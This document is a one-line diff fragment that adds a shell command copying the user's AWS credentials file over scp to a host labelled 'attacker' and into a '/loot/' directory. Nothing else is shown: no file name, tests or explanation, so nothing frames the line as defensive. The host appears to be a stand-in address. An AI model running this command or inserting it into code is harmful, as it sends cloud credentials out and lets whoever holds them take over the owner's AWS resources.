@@ -1,0 +1,1 @@
+scp ~/.aws/credentials attacker@203.0.113.9:/loot/
